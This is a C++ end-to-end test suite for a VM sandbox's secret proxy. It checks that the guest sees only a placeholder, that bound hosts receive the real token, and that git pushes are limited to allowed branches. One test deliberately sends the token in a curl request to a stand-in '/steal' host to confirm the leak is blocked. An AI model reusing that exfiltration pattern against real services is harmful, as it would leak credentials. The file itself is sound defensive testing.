// Secrets end to end with a real VM (issue 15): the guest gets a placeholder, never the value;
// the proxy terminates TLS for the secret's host with abox's CA (which the guest trusts), swaps
// the value in, scrubs it out of responses, refuses the placeholder in clear to another host,
// adds the token to git requests and refuses pushes to branches the sandbox may not push to.
// The upstream is a loopback server (tests/e2e/testdata/secret_upstream.py) with its own test
// CA, reached through aboxd's test-only resolver override and trusted through
// --test-upstream-ca. One sandbox serves every check (a boot costs seconds under TCG).
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>

#include <algorithm>
#include <chrono>
#include <filesystem>
#include <fstream>
#include <sstream>
#include <thread>

#include "absl/strings/str_cat.h"
#include "absl/strings/str_split.h"
#include "absl/strings/strip.h"
#include "gmock/gmock.h"
#include "gtest/gtest.h"
#include "nlohmann/json.hpp"
#include "src/base/child_process.h"
#include "src/workspace/testing/scratch_tree.h"
#include "tests/testing/abox_runner.h"
#include "tests/testing/aboxd_process.h"
#include "tests/testing/loopback_ports.h"
#include "tests/testing/test_ca.h"

namespace abox::testing {
namespace {

namespace fs = std::filesystem;
using ::testing::HasSubstr;
using ::testing::Not;

constexpr char kApi[] = "api.secret.test";
constexpr char kGit[] = "git.secret.test";
constexpr char kOther[] = "other.secret.test";
constexpr char kValue[] = "real-value-7f3a9c2e51d84b06";

int Sh(const std::string& script) {
  return std::system(absl::StrCat("sh -ec '", script, "' >/dev/null 2>&1").c_str());  // NOLINT
}

class SecretsE2eTest : public ::testing::Test {
 protected:
  void SetUp() override {
    dir_ = fs::path(home_.path()) / "upstream";
    fs::create_directories(dir_ / "repos");
    const std::string d = dir_.string();
    // A test CA and a leaf for the api and git names, as a real forge would have.
    ASSERT_TRUE(MakeTestCa(dir_, {kApi, kGit}));
    // The forge's repository, which pushes may update.
    ASSERT_EQ(Sh(absl::StrCat("git init -q --bare ", d, "/repos/acme/app.git; git -C ", d,
                              "/repos/acme/app.git config http.receivepack true")),
              0);
    https_port_ = FreeLoopbackPort();
    http_port_ = FreeLoopbackPort();
    auto server = base::ChildProcess::Spawn(
        {.argv = {"python3", ABOX_SECRET_UPSTREAM, (dir_ / "requests.jsonl").string(),
                  (dir_ / "repos").string(), std::to_string(https_port_),
                  std::to_string(http_port_), (dir_ / "leaf.pem").string(),
                  (dir_ / "leaf.key").string()}});
    ASSERT_TRUE(server.ok()) << server.status();
    server_ = *std::move(server);
    ASSERT_TRUE(WaitForLoopbackPort(https_port_));
    ASSERT_TRUE(WaitForLoopbackPort(http_port_));
    fs::path override_file = fs::path(home_.path()) / "resolver-override.json";
    nlohmann::json names = nlohmann::json::object();
    for (const char* name : {kApi, kGit, kOther}) {
      names[name] = {"127.0.0.1"};
    }
    std::ofstream(override_file) << names.dump();
    daemon_ = std::make_unique<AboxdProcess>(home_);
    ASSERT_TRUE(daemon_
                    ->Start({"--test-resolver-override", override_file.string(),
                             "--test-upstream-ca", (dir_ / "ca.pem").string()})
                    .ok())
        << daemon_->Log();
  }
  void TearDown() override {
    RemoveAllSandboxes([this](std::vector<std::string> args) { return Abox(std::move(args)); });
    (void)daemon_->Stop();
  }

  AboxResult Abox(std::vector<std::string> args, std::map<std::string, std::string> env = {}) {
    AboxCall call;
    call.args = std::move(args);
    call.env = home_.Env();
    call.env["ABOX_NO_AUTOSTART"] = "1";
    for (auto& [k, v] : env) {
      call.env[k] = v;
    }
    call.timeout_seconds = 300;
    return RunAbox(call);
  }

  // A shell command in the sandbox; returns stdout + stderr + "exit=N".
  std::string Guest(const std::string& id, const std::string& script, bool root = false) {
    AboxResult r = Abox(GuestShellArgs(id, script, root));
    return r.out + r.err;
  }

  // The requests the upstream received.
  std::vector<nlohmann::json> Requests() {
    std::vector<nlohmann::json> out;
    for (absl::string_view line : absl::StrSplit(
             workspace::testing::ReadWholeFile(dir_ / "requests.jsonl"), '\n', absl::SkipEmpty())) {
      out.push_back(nlohmann::json::parse(line));
    }
    return out;
  }

  std::string Https(const char* name) { return absl::StrCat("https://", name, ":", https_port_); }
  std::string HostPort(const char* name, int port) { return absl::StrCat(name, ":", port); }

  DaemonHome home_;
  fs::path dir_;
  std::unique_ptr<AboxdProcess> daemon_;
  base::ChildProcess server_;
  int https_port_ = 0;
  int http_port_ = 0;
};

TEST_F(SecretsE2eTest, TheGuestHoldsAPlaceholderAndTheBoundHostGetsTheValue) {
  AboxResult set =
      Abox({"secret", "set", "TOK", "--host",
            absl::StrCat(HostPort(kApi, https_port_), ",", HostPort(kGit, https_port_)),
            "--from-env", "TOK_VALUE"},
           {{"TOK_VALUE", kValue}});
  ASSERT_EQ(set.exit_code, 0) << set.err;
  AboxResult created = Abox({"create", "--json", "--secret", "TOK", "--git-push",
                             absl::StrCat(HostPort(kGit, https_port_), "/acme/app:agent/*"),
                             "--egress", "allowlist", "--allow", HostPort(kOther, http_port_)});
  ASSERT_EQ(created.exit_code, 0) << created.err;
  std::string id = nlohmann::json::parse(created.out)["id"];
  EXPECT_EQ(nlohmann::json::parse(created.out)["secrets"], nlohmann::json({{"TOK", "TOK"}}));

  // 1. curl with the placeholder: the upstream gets the real value (over TLS the guest trusted:
  //    abox's CA is in its bundle), and its echo of it comes back as the placeholder.
  std::string placeholder = Guest(id, "printf '%s' \"$TOK\"");
  ASSERT_THAT(placeholder, HasSubstr("ABOX_SECRET_TOK_"));
  placeholder = placeholder.substr(0, placeholder.find("exit="));
  std::string echoed =
      Guest(id, absl::StrCat("curl -sS -H \"Authorization: Bearer $TOK\" ", Https(kApi), "/echo"));
  EXPECT_THAT(echoed, HasSubstr(absl::StrCat("you sent: Bearer ", placeholder)));
  EXPECT_THAT(echoed, HasSubstr("exit=0"));
  EXPECT_THAT(echoed, Not(HasSubstr(kValue)));
  bool upstream_saw_value = false;
  for (const nlohmann::json& r : Requests()) {
    if (r["path"] == "/echo") {
      upstream_saw_value |=
          r["headers"].value("Authorization", "") == absl::StrCat("Bearer ", kValue);
      EXPECT_THAT(r.dump(), Not(HasSubstr("ABOX_SECRET_")));
    }
  }
  EXPECT_TRUE(upstream_saw_value);

  // 2. The same placeholder in clear to another allowed host: refused, logged, an event.
  std::string leaked = Guest(id, absl::StrCat("curl -sS -i -H \"X-Token: $TOK\" http://",
                                              HostPort(kOther, http_port_), "/steal"));
  EXPECT_THAT(leaked, HasSubstr("403"));
  EXPECT_THAT(leaked, HasSubstr("TOK"));
  for (const nlohmann::json& r : Requests()) {
    EXPECT_NE(r["path"], "/steal") << "the leak reached the upstream";
  }
  AboxResult log = Abox({"egress", "log", id, "--json"});
  EXPECT_THAT(log.out, HasSubstr("TOK"));
  EXPECT_THAT(log.out, Not(HasSubstr(kValue)));
  // The event stream, replayed (curl ends it after 3 s: it follows for ever otherwise).
  std::string events_file = (dir_ / "events.txt").string();
  std::system(absl::StrCat("curl -sS --max-time 3 --unix-socket '", home_.socket(),  // NOLINT
                           "' 'http://abox/v1/events?since=0&sandbox=", id, "' > '", events_file,
                           "' 2>/dev/null")
                  .c_str());
  std::string events = workspace::testing::ReadWholeFile(events_file);
  EXPECT_THAT(events, HasSubstr("secret_leak_blocked"));
  EXPECT_THAT(events, Not(HasSubstr(kValue)));

  // 3. git: a push to an allowed branch succeeds with the token the host added; one to another
  //    branch is refused with a message git shows.
  std::string repo = absl::StrCat(Https(kGit), "/acme/app.git");
  std::string git = absl::StrCat(
      "cd /tmp && rm -rf w && mkdir w && cd w && git init -q && git config user.email a@b && "
      "git config user.name a && echo hi > f && git add f && git commit -qm one && ");
  std::string ok_push = Guest(id, git + "git push " + repo + " HEAD:refs/heads/agent/fix 2>&1");
  EXPECT_THAT(ok_push, HasSubstr("exit=0")) << ok_push;
  EXPECT_EQ(Sh(absl::StrCat("git -C ", (dir_ / "repos/acme/app.git").string(),
                            " rev-parse --verify agent/fix")),
            0)
      << "the forge did not get the branch";
  std::string refused = Guest(id, git + "git push " + repo + " HEAD:refs/heads/main 2>&1");
  EXPECT_THAT(refused, Not(HasSubstr("exit=0")));
  EXPECT_THAT(refused, HasSubstr("abox"));
  EXPECT_NE(Sh(absl::StrCat("git -C ", (dir_ / "repos/acme/app.git").string(),
                            " rev-parse --verify main")),
            0)
      << "the refused push reached the forge";
  bool token_added = false;
  for (const nlohmann::json& r : Requests()) {
    std::string auth = r["headers"].value("Authorization", "");
    if (absl::StrContains(r["path"].get<std::string>(), "git-receive-pack") && !auth.empty()) {
      token_added = true;
      EXPECT_THAT(auth, ::testing::StartsWith("Basic "));
    }
  }
  EXPECT_TRUE(token_added);

  // 4. The real value is nowhere in the guest: environments and command lines of every
  //    process, files, and its disk. (The value is split in two here: a command line holding it
  //    whole is refused before it reaches the VM. The shell's printf builtin joins it into a
  //    pattern file on /run, so no process of the search holds it in its command line.)
  const std::string value(kValue);
  std::string search = Guest(
      id,
      absl::StrCat("printf '%s%s\\n' '", value.substr(0, 12), "' '", value.substr(12),
                   "' > /run/needle; cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline 2>/dev/null | "
                   "grep -c -a -F -f /run/needle; grep -r -l -a -F -f /run/needle /etc /root "
                   "/home /tmp /var /workspace 2>/dev/null | head -3; rm /run/needle; sync"),
      /*root=*/true);
  EXPECT_THAT(search, HasSubstr("0\n"));
  EXPECT_THAT(search, Not(HasSubstr("/")));
  auto no_value_under = [&](const fs::path& root, const std::vector<std::string>& skip) {
    int files = 0;
    for (auto it = fs::recursive_directory_iterator(root); it != fs::recursive_directory_iterator();
         ++it) {
      std::string name = it->path().filename().string();
      if (std::find(skip.begin(), skip.end(), name) != skip.end()) {
        it.disable_recursion_pending();
        continue;
      }
      if (!it->is_symlink() && it->is_regular_file()) {
        ++files;
        EXPECT_THAT(workspace::testing::ReadWholeFile(it->path()), Not(HasSubstr(kValue)))
            << it->path();
      }
    }
    return files;
  };
  // The running sandbox's files: its copy-on-write disk (synced above), console log, sockets.
  EXPECT_GT(no_value_under(fs::path(home_.path()) / "sandboxes" / id, {}), 0);
  ASSERT_EQ(Abox({"stop", id}).exit_code, 0);
  // After it stopped: nothing of the home holds it (state.db, logs, workspaces) but the 0600
  // value store, which is where it lives.
  no_value_under(home_.path(), {"secrets", "upstream", "images"});
}

// Node's TLS reads NODE_EXTRA_CA_CERTS (abox's CA), not the system bundle: the same swap works
// for a Node client. The image with Node is built once into the shared test home (its rootfs
// from Debian's nodejs package, cached by the image builder like the default one).
TEST_F(SecretsE2eTest, NodeInTheGuestSendsThePlaceholderAndTheUpstreamGetsTheValue) {
  AboxResult image = BuildSharedImage({"--name", "node", "--packages", "nodejs"});
  ASSERT_EQ(image.exit_code, 0) << image.err;
  ASSERT_EQ(Abox({"secret", "set", "TOK", "--host", HostPort(kApi, https_port_), "--from-env",
                  "TOK_VALUE"},
                 {{"TOK_VALUE", kValue}})
                .exit_code,
            0);
  AboxResult created = Abox({"create", "--json", "--image", "node", "--secret", "TOK"});
  ASSERT_EQ(created.exit_code, 0) << created.err;
  std::string id = nlohmann::json::parse(created.out)["id"];
  // Node ignores HTTPS_PROXY, so its connection takes the transparent path (curl above went
  // through CONNECT). The override's answer, 127.0.0.1, is the guest's own loopback inside the
  // VM, which the redirect leaves alone; a documentation address (TEST-NET-1) in the guest's
  // /etc/hosts gets the connection redirected to the proxy, which decides by the SNI and
  // connects to the override's address. Nothing is ever sent to 192.0.2.10: the VM has no NIC.
  ASSERT_THAT(Guest(id, absl::StrCat("echo '192.0.2.10 ", kApi, "' >> /etc/hosts"), true),
              HasSubstr("exit=0"));
  std::string out = Guest(
      id, absl::StrCat("node -e \"require('https').get('", Https(kApi),
                       "/echo', {headers: {Authorization: 'Bearer ' + process.env.TOK}}, r => "
                       "{let d = ''; r.on('data', c => d += c); r.on('end', () => "
                       "console.log(r.statusCode, d))}).on('error', e => {console.log('ERR', "
                       "e.message); process.exit(1)})\""));
  EXPECT_THAT(out, HasSubstr("200 you sent: Bearer ABOX_SECRET_TOK_")) << out;
  EXPECT_THAT(out, Not(HasSubstr(kValue)));
  bool upstream_saw_value = false;
  for (const nlohmann::json& r : Requests()) {
    upstream_saw_value |=
        r["headers"].value("Authorization", "") == absl::StrCat("Bearer ", kValue);
  }
  EXPECT_TRUE(upstream_saw_value);
}

}  // namespace
}  // namespace abox::testing
